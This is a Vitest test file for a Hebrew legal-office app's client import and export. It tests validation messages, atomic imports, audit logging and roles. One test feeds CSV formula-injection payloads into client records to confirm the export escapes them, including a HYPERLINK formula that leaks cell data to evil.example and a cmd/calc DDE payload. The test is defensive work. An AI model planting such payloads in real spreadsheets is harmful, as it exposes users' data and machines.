// Import and export of insured persons on real files in a temp folder and a real store: the dry run
// names each bad row, field and reason and writes nothing; the import is all or nothing and keeps the
// search index and audit log in step; exports open right in Hebrew Excel, round-trip into another
// office, and are logged; only owners and lawyers may do either.
import ExcelJS from 'exceljs';
import fs from 'node:fs';
import Papa from 'papaparse';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { auditLog } from '../../db/schema';
import type { ImportProblem } from '../../shared/schemas/transfer';
import { expectOk, openTestApp, setUpAndLogIn, type TestApp } from '../support/app';
import { invalidId, validId } from '../support/ids';
import { officeWithClient } from '../support/office';
import { logInAs } from '../support/staff';
import { tempDir } from '../support/temp';

let app: TestApp;
let token: string;
let folder: string;
let removeFolder: () => void;

const EXISTING_ID = validId('20304050');
const CLIENT_HEADER = 'מספר זהות,שם פרטי,שם משפחה,תאריך לידה,מין,טלפון נייד,מצב משפחתי,מספר תיק במשרד';

beforeEach(async () => {
  ({ app, token } = await officeWithClient({
    idNumber: EXISTING_ID,
    firstNameHe: 'נועה',
    lastNameHe: 'שפירא',
    birthDate: '1975-03-03',
    sex: 'female',
  }));
  ({ dir: folder, cleanup: removeFolder } = tempDir());
});
afterEach(() => {
  app.dispose();
  removeFolder();
});

function writeFile(name: string, bytes: string | Buffer): string {
  const file = path.join(folder, name);
  fs.writeFileSync(file, bytes);
  return file;
}

/** A CSV as Excel saves it: UTF-8 with a BOM, CRLF. */
/** What the desk sends when the user picks this file (and, for a CSV, its -family / -incomes files beside it). */
function picked(file: string) {
  const { dir, name, ext } = path.parse(file);
  const files = [
    file,
    ...['family', 'incomes'].map((kind) => path.join(dir, `${name}-${kind}${ext}`)).filter((f) => fs.existsSync(f)),
  ];
  return {
    importFiles: files.map((f) => ({ name: path.basename(f), contentBase64: fs.readFileSync(f).toString('base64') })),
  };
}

function writeCsv(name: string, lines: string[]): string {
  return writeFile(name, `\uFEFF${lines.join('\r\n')}\r\n`);
}

/** Windows-1255, as old Hebrew Excel exports: ASCII as is, the Hebrew letters at 0xE0–0xFA. */
function windows1255(text: string): Buffer {
  return Buffer.from(
    [...text].map((c) => (c >= 'א' && c <= 'ת' ? 0xe0 + c.charCodeAt(0) - 'א'.charCodeAt(0) : c.charCodeAt(0))),
  );
}

function count(table: string): number {
  return app.store.sqlite.prepare(`select count(*) from ${table}`).pluck().get() as number;
}

function auditActions(action: string) {
  return app.store.db
    .select()
    .from(auditLog)
    .all()
    .filter((row) => row.action === action);
}

/** The office as it was before the import: the one client, indexed, no family rows, no import logged. */
function expectNothingImported(): void {
  expect(count('insured_person')).toBe(1);
  expect(count('family_member')).toBe(0);
  expect(count('client_search')).toBe(1);
  expect(auditActions('import')).toEqual([]);
}

/** The parts of a problem a user reads, for exact comparison. */
const brief = (problems: ImportProblem[]) =>
  problems.map(({ sheet, row, field, message }) => ({ sheet, row, field, message }));

describe('the import dry run', () => {
  it('names each bad row, its field and the Hebrew reason, and imports nothing', async () => {
    const file = writeCsv('clients.csv', [
      CLIENT_HEADER,
      `${validId('11111111')},דן,לוי,01/02/1980,זכר,052-5550001,נשוי,A-1`,
      `${invalidId('22222222')},רון,כהן,01/02/1980,זכר,,,`,
      `${validId('33333333')},גל,מזרחי,1980/02/31,נקבה,,,`,
      `${validId('44444444')},,פרץ,2.3.1981,נקבה,,,`,
      `${validId('11111111')},דנה,לוי,1/2/1980,נקבה,,,`,
      `${EXISTING_ID},נועה,שפירא,03/03/1975,נקבה,,,`,
      `${validId('55555555')},עדי,ביטון,1990-05-06,נקבה,12345,,`,
      `${validId('66666666')},אבי,חדד,1990-05-06,X,,,A-1`,
    ]);
    writeCsv('clients-family.csv', [
      'מספר זהות של המבוטח,קרבה,שם פרטי,תאריך לידה',
      `${validId('77777777')},ילד,יעל,01/01/2010`,
      `${EXISTING_ID},ילדה,תמר,01/01/2012`,
    ]);

    const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
    expect(preview).toMatchObject({ rows: 8, valid: 1, problemCount: 8, duplicateCount: 1 });
    expect(preview.sources).toEqual([
      { sheet: 'clients', name: 'clients.csv', rows: 8 },
      { sheet: 'family', name: 'clients-family.csv', rows: 2 },
    ]);
    expect(brief(preview.problems)).toEqual([
      { sheet: 'clients', row: 3, field: 'idNumber', message: 'מספר הזהות אינו תקין — ספרת הביקורת אינה מתאימה' },
      {
        sheet: 'clients',
        row: 4,
        field: 'birthDate',
        message: 'תאריך לידה: התאריך אינו תקין או שתבניתו אינה מוכרת — יש לכתוב למשל 31/12/1980',
      },
      { sheet: 'clients', row: 5, field: 'firstNameHe', message: 'יש למלא את השדה שם פרטי' },
      { sheet: 'clients', row: 6, field: 'idNumber', message: 'מספר זהות מופיע כבר בשורה 2 בקובץ' },
      {
        sheet: 'clients',
        row: 8,
        field: 'mobilePhone',
        message: 'מספר הטלפון הנייד אינו תקין — יש להקליד מספר נייד ישראלי, למשל 050-1234567',
      },
      { sheet: 'clients', row: 9, field: 'sex', message: 'מין: הערך "X" אינו מוכר — אפשר לכתוב: זכר, נקבה' },
      { sheet: 'clients', row: 9, field: 'fileNumber', message: 'מספר תיק במשרד מופיע כבר בשורה 2 בקובץ' },
      {
        sheet: 'family',
        row: 2,
        field: 'clientIdNumber',
        message: 'אין בגיליון המבוטחים שורה תקינה עם מספר הזהות הזה',
      },
    ]);
    expect(preview.problems[0]!.fieldLabel).toBe('מספר זהות');
    expect(brief(preview.duplicatesInOffice)).toEqual([
      {
        sheet: 'clients',
        row: 7,
        field: 'idNumber',
        message: 'מבוטח עם מספר הזהות הזה כבר רשום במשרד — השורה לא תיובא',
      },
    ]);

    const refused = await app.call(token, 'clients.import', { ...picked(file), confirm: true });
    expect(refused).toEqual({
      ok: false,
      error: {
        code: 'validation',
        field: 'importFiles',
        message: 'בקובץ יש שורות שגויות ולכן לא יובא דבר — יש לתקן אותן לפי תוצאות הבדיקה ולנסות שוב',
      },
    });
    expectNothingImported();
  });

  it('names a file number the office already uses, and imports nothing', async () => {
    expectOk(
      await app.call(token, 'clients.create', {
        idNumber: validId('15151515'),
        firstNameHe: 'שרה',
        lastNameHe: 'לוי',
        birthDate: '1970-01-01',
        sex: 'female',
        fileNumber: 'T-7',
      }),
    );
    const file = writeCsv('file-numbers.csv', [
      CLIENT_HEADER,
      `${validId('16161616')},דן,לוי,01/02/1980,זכר,,,T-7`,
      `${validId('17171717')},רון,לוי,01/02/1980,זכר,,,T-8`,
    ]);
    const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
    expect(preview).toMatchObject({ rows: 2, valid: 1, problemCount: 1, duplicateCount: 0 });
    expect(brief(preview.problems)).toEqual([
      { sheet: 'clients', row: 2, field: 'fileNumber', message: 'מספר התיק הזה כבר משמש מבוטח אחר במשרד' },
    ]);
    expect((await app.call(token, 'clients.import', { ...picked(file), confirm: true })).ok).toBe(false);
    expect(count('insured_person')).toBe(2);
  });

  it('reports unknown and missing columns on the header row instead of every row', async () => {
    const file = writeCsv('columns.csv', [
      'מספר זהות,שם פרטי,שם משפחה,מין,הערות',
      `${validId('12121212')},דן,לוי,זכר,לקוח ותיק`,
    ]);
    const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
    expect(brief(preview.problems)).toEqual([
      {
        sheet: 'clients',
        row: 1,
        field: 'column',
        message: 'העמודה ה־5 (E) אינה מוכרת — יש לתקן את שם העמודה או למחוק אותה',
      },
      { sheet: 'clients', row: 1, field: 'birthDate', message: 'חסרה העמודה תאריך לידה' },
    ]);
  });

  it('names the row where a quote was opened and never closed', async () => {
    const file = writeCsv('quotes.csv', [
      CLIENT_HEADER,
      `${validId('13131313')},דן,לוי,01/01/1980,זכר,,,`,
      `${validId('14141414')},"רן,לוי,01/01/1980,זכר,,,`,
    ]);
    const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
    expect(brief(preview.problems)[0]).toEqual({
      sheet: 'clients',
      row: 3,
      field: '',
      message: 'מירכאות שנפתחו בשורה זו לא נסגרו',
    });
  });

  it('never echoes what an unknown column holds: a file of passwords shows no password', async () => {
    const file = writeFile('passwords.txt', 'hunter2-Secret!,correct-horse-battery\nsecond-secret,third\n');
    const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
    const shown = JSON.stringify(preview);
    for (const secret of ['hunter2', 'correct-horse', 'second-secret', 'third']) expect(shown).not.toContain(secret);
    expect(brief(preview.problems)[0]).toMatchObject({
      row: 1,
      field: 'column',
      message: expect.stringContaining('(A)'),
    });
  });

  it('reads only the files the user picked: no path is taken, only their bytes', async () => {
    const file = writeCsv('ok.csv', [CLIENT_HEADER]);
    expect(await app.call(token, 'clients.importPreview', { importFile: file } as never)).toMatchObject({
      ok: false,
      error: { code: 'validation', field: 'importFiles' },
    });
    expect(await app.call(token, 'clients.importPreview', { importFiles: [] })).toMatchObject({
      ok: false,
      error: { field: 'importFiles', message: 'יש למלא את השדה קובצי הייבוא' },
    });
    const family = writeCsv('ok-family.csv', ['מספר זהות של המבוטח']);
    expect(await app.call(token, 'clients.importPreview', picked(family))).toMatchObject({
      ok: false,
      error: { field: 'importFiles', message: expect.stringContaining('יש לבחור את קובץ המבוטחים') },
    });
    const stray = { name: 'other-family.csv', contentBase64: Buffer.from('x').toString('base64') };
    expect(
      await app.call(token, 'clients.importPreview', { importFiles: [...picked(file).importFiles, stray] }),
    ).toMatchObject({
      ok: false,
      error: { field: 'importFiles', message: expect.stringContaining('"other-family.csv" אינו שייך לייבוא') },
    });
  });

  it('needs a CSV or xlsx file and an explicit confirmation', async () => {
    const pdf = writeFile('clients.pdf', '%PDF-1.7');
    expect(await app.call(token, 'clients.importPreview', picked(pdf))).toMatchObject({
      ok: false,
      error: { message: 'אפשר לייבא קובץ CSV או קובץ Excel (xlsx) בלבד' },
    });
    const fake = writeFile('clients.xlsx', 'not a zip');
    expect(await app.call(token, 'clients.importPreview', picked(fake))).toMatchObject({
      ok: false,
      error: { field: 'importFiles' },
    });
    const csv = writeCsv('ok.csv', [CLIENT_HEADER]);
    expect(await app.call(token, 'clients.import', picked(csv) as never)).toMatchObject({
      ok: false,
      error: { field: 'confirm', message: 'יש לאשר את הייבוא' },
    });
  });
});

describe('the import', () => {
  it('imports a good CSV with its family and income files in one go, findable by search and audited once', async () => {
    const noLeadingZero = validId('01234567').replace(/^0/, '');
    const file = writeCsv('office.csv', [
      'idNumber,firstNameHe,lastNameHe,birthDate,sex,mobilePhone,otherPhone,maritalStatus,isHousewife,bankCode,bankBranch,bankAccount',
      `${noLeadingZero},מרים,אלמוג,7.3.1962,נקבה,+972-52-555-0001,03-6091234,נשואה,כן,12,34,123456`,
      `${validId('30303030')},יוסף,בן דוד,1958-11-30,ז,0525550002,,אלמן,לא,,,`,
      `${EXISTING_ID},נועה,שפירא,03/03/1975,נקבה,,,,,,,`,
    ]);
    writeCsv('office-family.csv', [
      'clientIdNumber,relation,firstName,birthDate,monthlyIncome,isDependant',
      `${noLeadingZero},בעל,אהרון,1960-01-01,"8,500.5",לא`,
      `${noLeadingZero},בת,שירה,15/09/2008,,כן`,
      `${EXISTING_ID},ילד,איתי,2010-01-01,,כן`,
    ]);
    writeCsv('office-incomes.csv', [
      'מספר זהות של המבוטח,חודש,מקור ההכנסה,הכנסה',
      `${validId('30303030')},01/2024,שכיר,12000`,
      `${validId('30303030')},2024-02,עצמאי,3100.25`,
    ]);

    const result = expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }));
    expect(result).toEqual({
      batchId: expect.any(Number),
      imported: 2,
      skipped: 1,
      family: 2,
      incomes: 2,
      remaining: 0,
    });

    const found = expectOk(await app.call(token, 'clients.search', { query: 'אלמוג' }));
    expect(found.total).toBe(1);
    const miriam = found.rows[0]!;
    expect(miriam).toMatchObject({
      idNumber: validId('01234567'),
      birthDate: '1962-03-07',
      mobilePhone: '+972525550001',
      otherPhone: '+97236091234',
      maritalStatus: 'married',
      isHousewife: true,
      bankCode: '12',
      bankBranch: '034',
      preferredLanguage: 'he',
    });
    expect(
      expectOk(await app.call(token, 'clients.search', { query: noLeadingZero.slice(-4) })).rows.map((c) => c.id),
    ).toContain(miriam.id);
    expect(
      expectOk(await app.call(token, 'family.list', { clientId: miriam.id })).map((m) => [
        m.relation,
        m.firstName,
        m.monthlyIncome,
        m.isDependant,
        m.birthDate,
      ]),
    ).toEqual([
      ['child', 'שירה', null, true, '2008-09-15'],
      ['spouse', 'אהרון', '8500.50', false, '1960-01-01'],
    ]);
    const yosef = expectOk(await app.call(token, 'clients.search', { query: 'בן דוד' })).rows[0]!;
    expect(yosef).toMatchObject({ sex: 'male', maritalStatus: 'widowed', birthDate: '1958-11-30' });
    expect(
      expectOk(await app.call(token, 'incomes.list', { clientId: yosef.id })).map((i) => [i.month, i.source, i.income]),
    ).toEqual([
      ['2024-02', 'self_employed', '3100.25'],
      ['2024-01', 'employee', '12000.00'],
    ]);

    const [imported] = auditActions('import');
    expect(imported).toMatchObject({
      staffId: 1,
      entity: 'insured_person',
      details: {
        file: 'office.csv',
        batchId: result.batchId,
        imported: 2,
        skipped: 1,
        family: 2,
        incomes: 2,
        clientIds: { from: miriam.id, to: yosef.id },
      },
    });
    expect(expectOk(await app.call(token, 'audit.verify', {}))).toMatchObject({ ok: true });
  });

  it('reads a Windows-1255 CSV from an old Hebrew Excel', async () => {
    const file = writeFile(
      'legacy.csv',
      windows1255([CLIENT_HEADER, `${validId('40404040')},שלום,עליכם,01/01/1950,זכר,,רווק,`].join('\r\n')),
    );
    const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
    expect(preview).toMatchObject({ rows: 1, valid: 1, problems: [] });
    expect(expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({
      imported: 1,
    });
    expect(expectOk(await app.call(token, 'clients.search', { query: 'עליכם' })).rows[0]).toMatchObject({
      firstNameHe: 'שלום',
      maritalStatus: 'single',
    });
  });

  it('imports an Excel workbook with date cells, numbers that lost their zeros and a family sheet', async () => {
    const workbook = new ExcelJS.Workbook();
    const clients = workbook.addWorksheet('Sheet1');
    clients.addRow(['מספר זהות', 'שם פרטי', 'שם משפחה', 'תאריך לידה', 'מין', 'טלפון נייד', 'תאריך עלייה']);
    clients.addRow([
      Number(validId('05050505')),
      'אולגה',
      'פטרובה',
      new Date(Date.UTC(1971, 5, 15)),
      'נקבה',
      525550003,
      new Date(Date.UTC(1991, 0, 20)),
    ]);
    const family = workbook.addWorksheet('בני משפחה');
    family.addRow(['מספר זהות של המבוטח', 'קרבה', 'שם פרטי', 'תאריך לידה', 'מין']);
    family.addRow([Number(validId('05050505')), 'בן', 'איגור', new Date(Date.UTC(1999, 11, 31)), 'זכר']);
    const incomes = workbook.addWorksheet('incomes');
    incomes.addRow(['clientIdNumber', 'month', 'source', 'income']);
    incomes.addRow([Number(validId('05050505')), new Date(Date.UTC(2024, 2, 1)), 'employee', 9876.5]);
    const file = path.join(folder, 'office.xlsx');
    await workbook.xlsx.writeFile(file);

    const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
    expect(preview).toMatchObject({ rows: 1, valid: 1, problems: [] });
    expect(preview.sources.map((s) => [s.sheet, s.name])).toEqual([
      ['clients', 'Sheet1'],
      ['family', 'בני משפחה'],
      ['incomes', 'incomes'],
    ]);
    expect(expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({
      imported: 1,
      skipped: 0,
      family: 1,
      incomes: 1,
    });
    const olga = expectOk(await app.call(token, 'clients.search', { query: 'פטרובה' })).rows[0]!;
    expect(olga).toMatchObject({
      idNumber: validId('05050505'),
      birthDate: '1971-06-15',
      aliyaDate: '1991-01-20',
      mobilePhone: '+972525550003',
    });
    expect(expectOk(await app.call(token, 'family.list', { clientId: olga.id }))[0]).toMatchObject({
      relation: 'child',
      firstName: 'איגור',
      birthDate: '1999-12-31',
      sex: 'male',
    });
    expect(expectOk(await app.call(token, 'incomes.list', { clientId: olga.id }))[0]).toMatchObject({
      month: '2024-03',
      income: '9876.50',
    });
  });

  it('leaves nothing behind when the store refuses a row half way through', async () => {
    // A rule the checks do not know (as a later migration might add) refuses the third client.
    app.store.sqlite.exec(`CREATE TRIGGER refuse_one BEFORE INSERT ON insured_person WHEN NEW.last_name_he = 'נדחה'
      BEGIN SELECT RAISE(ABORT, 'refused'); END`);
    const file = writeCsv('batch.csv', [
      CLIENT_HEADER,
      `${validId('60606060')},אחד,ראשון,01/01/1980,זכר,,,`,
      `${validId('61616161')},שתיים,שנייה,01/01/1981,נקבה,,,`,
      `${validId('62626262')},שלוש,נדחה,01/01/1982,נקבה,,,`,
      `${validId('63636363')},ארבע,רביעי,01/01/1983,זכר,,,`,
    ]);
    writeCsv('batch-family.csv', ['מספר זהות של המבוטח,קרבה,שם פרטי', `${validId('60606060')},בן,קטן`]);
    expect(expectOk(await app.call(token, 'clients.importPreview', picked(file)))).toMatchObject({
      valid: 4,
      problemCount: 0,
    });

    const failed = await app.call(token, 'clients.import', { ...picked(file), confirm: true });
    expect(failed).toEqual({
      ok: false,
      error: {
        code: 'conflict',
        field: 'importFiles',
        message: 'הייבוא נעצר בשורה 4 ולא יובא דבר — נתוני המשרד לא שונו. נסו שוב, ואם התקלה חוזרת פנו לתמיכה',
      },
    });
    expectNothingImported();
    expect(expectOk(await app.call(token, 'clients.search', { query: 'ראשון' })).total).toBe(0);
    expect(expectOk(await app.call(token, 'audit.verify', {}))).toMatchObject({ ok: true });
  });
  it('takes back the clients already written when the check finds a problem in the file’s last rows', async () => {
    // Past the check's first hand-overs (500 rows each): the import has written clients when the problem comes.
    const ids = Array.from({ length: 1200 }, (_, n) => validId(String(70_000_000 + n)));
    const file = writeCsv('long.csv', [CLIENT_HEADER, ...ids.map((id) => `${id},לקוח,ישראלי,01/01/1970,זכר,,,`)]);
    writeCsv('long-family.csv', ['מספר זהות של המבוטח,קרבה,שם פרטי', `${ids[0]},בן,ראשון`, `${ids[1199]},שכן,אחרון`]);
    expect(expectOk(await app.call(token, 'clients.importPreview', picked(file)))).toMatchObject({
      valid: 1200,
      problems: [{ sheet: 'family', row: 3, field: 'relation' }],
    });
    const failed = await app.call(token, 'clients.import', { ...picked(file), confirm: true });
    expect(failed).toMatchObject({ ok: false, error: { code: 'validation', field: 'importFiles' } });
    expectNothingImported();
    expect(count('import_batch')).toBe(0);
    expect(expectOk(await app.call(token, 'audit.verify', {}))).toMatchObject({ ok: true });

    // The same file fixed imports whole, each family row with its client, audited once.
    writeCsv('long-family.csv', ['מספר זהות של המבוטח,קרבה,שם פרטי', `${ids[0]},בן,ראשון`, `${ids[1199]},בת,אחרונה`]);
    const result = expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }));
    expect(result).toMatchObject({ imported: 1200, family: 2, skipped: 0, remaining: 0 });
    const byId = (id: string) =>
      app.store.sqlite.prepare('SELECT id FROM insured_person WHERE id_number = ?').pluck().get(id) as number;
    const families = app.store.sqlite
      .prepare('SELECT insured_person_id AS client, first_name AS name FROM family_member ORDER BY name')
      .all();
    expect(families).toEqual([
      { client: byId(ids[1199]!), name: 'אחרונה' },
      { client: byId(ids[0]!), name: 'ראשון' },
    ]);
    expect(auditActions('import')).toHaveLength(1);
    expect(auditActions('import')[0]!.details).toMatchObject({
      imported: 1200,
      clientIds: { from: byId(ids[0]!), to: byId(ids[1199]!) },
    });
    expect(expectOk(await app.call(token, 'audit.verify', {}))).toMatchObject({ ok: true });
  });
});

describe('the export', () => {
  async function addClients(): Promise<void> {
    expectOk(
      await app.call(token, 'clients.create', {
        idNumber: validId('00707070'),
        firstNameHe: 'אורי',
        lastNameHe: 'אברהם',
        firstNameLatin: 'Uri',
        birthDate: '1966-08-09',
        sex: 'male',
        maritalStatus: 'divorced',
        mobilePhone: '052-5550004',
        email: 'uri@example.com',
        isHousewife: false,
        fileNumber: '=HYPERLINK("x")',
      }),
    );
  }

  it('writes a CSV Hebrew Excel opens right, and logs it', async () => {
    await addClients();
    const { file, count: rows } = expectOk(
      await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }),
    );
    expect(rows).toBe(2);
    expect(path.dirname(file)).toBe(folder);
    expect(path.basename(file)).toBe('mitzui-clients-2026-03-01-1000.csv');
    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
    expect(lines[0]!.split(',').slice(0, 8)).toEqual([
      'מספר זהות',
      'שם פרטי',
      'שם משפחה',
      'שם פרטי באותיות לועזיות',
      'שם משפחה באותיות לועזיות',
      'תאריך לידה',
      'מין',
      'מצב משפחתי',
    ]);
    expect(lines[1]).toContain(`${validId('00707070')},אורי,אברהם,Uri,,09/08/1966,זכר,גרוש/ה,`);
    expect(lines[1]).toContain(',052-5550004,');
    expect(lines[1]).toContain(`"'=HYPERLINK(""x"")"`);
    expect(lines[2]).toContain('נועה,שפירא');
    expect(fs.readdirSync(folder)).toEqual([path.basename(file)]);

    const [logged] = auditActions('export');
    expect(logged).toMatchObject({
      staffId: 1,
      entity: 'insured_person',
      details: { file, format: 'csv', count: 2, query: null },
    });

    const again = expectOk(
      await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv', query: 'אברהם' }),
    );
    expect(again).toEqual({ file: path.join(folder, 'mitzui-clients-2026-03-01-1000-2.csv'), count: 1 });
    expect(auditActions('export')[1]).toMatchObject({ details: { count: 1, query: 'אברהם' } });
  });

  it('escapes every cell a spreadsheet could run as a formula, a newline inside it or not', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1)\n&""', "+1+cmd|' /C calc'!A0", '-2+3\r\n', '@SUM(A1:A9)'];
    for (const [n, street] of payloads.entries()) {
      expectOk(
        await app.call(token, 'clients.create', {
          idNumber: validId(`0080808${n}`),
          firstNameHe: 'טל',
          lastNameHe: 'כץ',
          birthDate: '1970-01-01',
          sex: 'female',
          street,
        }),
      );
    }
    const { file } = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }));
    const rows = Papa.parse<string[]>(fs.readFileSync(file, 'utf8').slice(1), { skipEmptyLines: true }).data;
    const column = rows[0]!.indexOf('רחוב');
    const streets = rows
      .slice(1)
      .map((row) => row[column]!)
      .filter((cell) => cell !== '');
    expect(streets).toHaveLength(payloads.length);
    for (const cell of streets) expect(cell.startsWith("'")).toBe(true);
  });

  it('exports an office of more clients than SQLite takes values in one statement', async () => {
    // 33,000 clients, put in by SQL for speed: above SQLite's 32,766 bound values, which an export of
    // 50,000 clients once ran into (bench/RESULTS.md).
    const many = 33_000;
    app.store.sqlite
      .prepare(
        `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
         INSERT INTO insured_person (office_id, id_number, first_name_he, last_name_he, birth_date, sex, created_at, updated_at, created_by, updated_by)
         SELECT 1, printf('%09d', 500000000 + i), 'דוד', printf('אלמוני %05d', i), '1970-01-01', 'male', '2026-03-01T08:00:00.000Z', '2026-03-01T08:00:00.000Z', 1, 1 FROM n`,
      )
      .run(many);
    const { file, count: rows } = expectOk(
      await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }),
    );
    expect(rows).toBe(many + 1);
    const lines = fs.readFileSync(file, 'utf8').trimEnd().split('\r\n');
    expect(lines).toHaveLength(many + 2);
    expect(lines[1]).toContain('דוד,אלמוני 00001');
    expect(lines.at(-1)).toContain('נועה,שפירא');
  });

  it('writes an Excel workbook right to left with a bold frozen header and real date cells', async () => {
    await addClients();
    const { file } = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'xlsx' }));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('מבוטחים');
    expect(sheet.views[0]).toMatchObject({ rightToLeft: true, state: 'frozen', ySplit: 1 });
    const header = sheet.getRow(1);
    expect(header.getCell(1).value).toBe('מספר זהות');
    expect(header.getCell(6).value).toBe('תאריך לידה');
    expect(header.getCell(1).font).toMatchObject({ bold: true });
    expect(sheet.getColumn(6).width).toBeGreaterThan(8);
    const uri = sheet.getRow(2);
    expect(uri.getCell(1).value).toBe(validId('00707070'));
    expect(uri.getCell(2).value).toBe('אורי');
    expect(uri.getCell(6).value).toEqual(new Date(Date.UTC(1966, 7, 9)));
    expect(uri.getCell(6).numFmt).toBe('dd/mm/yyyy');
    expect(sheet.rowCount).toBe(3);
    expect(auditActions('export')[0]).toMatchObject({ details: { file, format: 'xlsx', count: 2 } });
  });

  it('round-trips: both exports import into another office as the same clients', async () => {
    await addClients();
    const csv = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' })).file;
    const xlsx = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'xlsx' })).file;
    const here = expectOk(await app.call(token, 'clients.search', { query: '' })).rows;
    const strip = ({ id: _id, version: _v, createdAt: _c, updatedAt: _u, ...fields }: (typeof here)[number]) => fields;

    for (const file of [csv, xlsx]) {
      const other = await openTestApp();
      try {
        const otherToken = await setUpAndLogIn(other);
        const preview = expectOk(await other.call(otherToken, 'clients.importPreview', picked(file)));
        expect(preview).toMatchObject({ rows: 2, valid: 2, problemCount: 0 });
        expectOk(await other.call(otherToken, 'clients.import', { ...picked(file), confirm: true }));
        const there = expectOk(await other.call(otherToken, 'clients.search', { query: '' })).rows;
        expect(there.map(strip)).toEqual(here.map(strip));
      } finally {
        other.dispose();
      }
    }
  });

  it('needs an existing folder given by its full path, named in Hebrew', async () => {
    expect(await app.call(token, 'clients.export', { targetFolder: 'exports', format: 'csv' })).toMatchObject({
      ok: false,
      error: { code: 'validation', field: 'targetFolder', message: 'יש לציין נתיב מלא לתיקיית היעד' },
    });
    expect(
      await app.call(token, 'clients.export', { targetFolder: path.join(folder, 'missing'), format: 'xlsx' }),
    ).toEqual({
      ok: false,
      error: { code: 'validation', field: 'targetFolder', message: 'התיקייה שנבחרה לשמירת הקובץ אינה קיימת' },
    });
    expect(await app.call(token, 'clients.export', { targetFolder: folder, format: 'pdf' as never })).toMatchObject({
      ok: false,
      error: { field: 'format' },
    });
    expect(auditActions('export')).toEqual([]);
  });
});

describe('the template and the roles', () => {
  it('writes empty files with every sheet’s headers, which the import reads back', async () => {
    const { files } = expectOk(
      await app.call(token, 'clients.importTemplate', { targetFolder: folder, format: 'csv' }),
    );
    expect(files.map((f) => path.basename(f))).toEqual([
      'mitzui-import.csv',
      'mitzui-import-family.csv',
      'mitzui-import-incomes.csv',
    ]);
    expect(fs.readFileSync(files[2]!, 'utf8')).toBe('\uFEFFמספר זהות של המבוטח,חודש,מקור ההכנסה,הכנסה\r\n');
    expect(expectOk(await app.call(token, 'clients.importPreview', picked(files[0]!)))).toMatchObject({
      rows: 0,
      problems: [],
    });

    const {
      files: [workbook],
    } = expectOk(await app.call(token, 'clients.importTemplate', { targetFolder: folder, format: 'xlsx' }));
    expect(
      expectOk(await app.call(token, 'clients.importPreview', picked(workbook!))).sources.map((s) => s.name),
    ).toEqual(['מבוטחים', 'בני משפחה', 'הכנסות']);
  });

  it('lets owners and lawyers import and export, not staff', async () => {
    const file = writeCsv('roles.csv', [CLIENT_HEADER, `${validId('80808080')},רות,מלכה,01/01/1970,נקבה,,,`]);
    const staff = await logInAs(app, 'staff');
    const forbidden = { ok: false, error: { code: 'forbidden', message: 'אין לך הרשאה לבצע פעולה זו' } };
    expect(await app.call(staff, 'clients.importPreview', picked(file))).toEqual(forbidden);
    expect(await app.call(staff, 'clients.import', { ...picked(file), confirm: true })).toEqual(forbidden);
    expect(await app.call(staff, 'clients.export', { targetFolder: folder, format: 'csv' })).toEqual(forbidden);
    expect(await app.call(staff, 'clients.importTemplate', { targetFolder: folder, format: 'csv' })).toEqual(forbidden);
    expect(count('insured_person')).toBe(1);

    const lawyer = await logInAs(app, 'lawyer');
    expect(expectOk(await app.call(lawyer, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({
      imported: 1,
    });
    expect(expectOk(await app.call(lawyer, 'clients.export', { targetFolder: folder, format: 'xlsx' }))).toMatchObject({
      count: 2,
    });
  });
});
